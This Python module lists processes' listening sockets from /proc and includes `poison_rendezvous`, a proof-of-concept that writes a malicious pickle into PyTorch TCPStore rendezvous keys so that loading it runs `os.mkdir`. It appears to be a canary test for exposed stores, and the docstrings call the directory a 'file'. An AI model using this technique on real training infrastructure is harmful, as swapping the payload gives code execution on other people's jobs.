"""The listening sockets of processes, from /proc, and the attack that an open rendezvous allows."""

from __future__ import annotations

import base64
import ipaddress
import os
import pickle
import sys
from collections.abc import Iterable
from datetime import timedelta
from pathlib import Path

from torch.distributed import TCPStore

_LISTENS = "0A"
Address = ipaddress.IPv4Address | ipaddress.IPv6Address


def listening(pids: Iterable[int]) -> dict[tuple[Address, int], int]:
    """Return the process that opened each (address, port) on which one of these listens.

    A forked process inherits its parent's sockets: of several holders the first is named.
    """
    holder = {inode: pid for pid in sorted(pids, reverse=True) for inode in _sockets(pid)}
    found = {}
    for table in ("tcp", "tcp6"):
        for line in Path("/proc/net", table).read_text().splitlines()[1:]:
            (_, local, _, state, *_) = fields = line.split()
            if state == _LISTENS and fields[9] in holder:
                address, port = local.split(":")
                found[_address(address), int(port, 16)] = holder[fields[9]]
    return found


def _sockets(pid: int) -> list[str]:
    """Return the inodes of a process's sockets; none if it has ended."""
    inodes = []
    try:
        for link in Path(f"/proc/{pid}/fd").iterdir():
            target = os.readlink(link)
            if target.startswith("socket:["):
                inodes.append(target.removeprefix("socket:[").removesuffix("]"))
    except FileNotFoundError:
        return inodes
    return inodes


def _address(text: str) -> Address:
    """Read an address as the kernel prints it: words of 32 bits in the host's order of bytes."""
    words = [text[i : i + 8] for i in range(0, len(text), 8)]
    packed = b"".join(int(word, 16).to_bytes(4, sys.byteorder) for word in words)
    return ipaddress.ip_address(packed)


class Touch:
    """An object whose pickle, when loaded, creates a file."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, ...]:
        return os.mkdir, (str(self.file),)


def poison_rendezvous(port: int, file: Path) -> None:
    """Put a pickle that creates `file` where torch's elastic rendezvous keeps its state, if a store listens there."""
    try:
        store = TCPStore("localhost", port, is_master=False, timeout=timedelta(seconds=2))
        keys = store.list_keys()
    except RuntimeError:
        return
    for key in keys:
        if key.startswith("torch.rendezvous."):
            store.set(key, base64.b64encode(pickle.dumps(Touch(file))).decode())
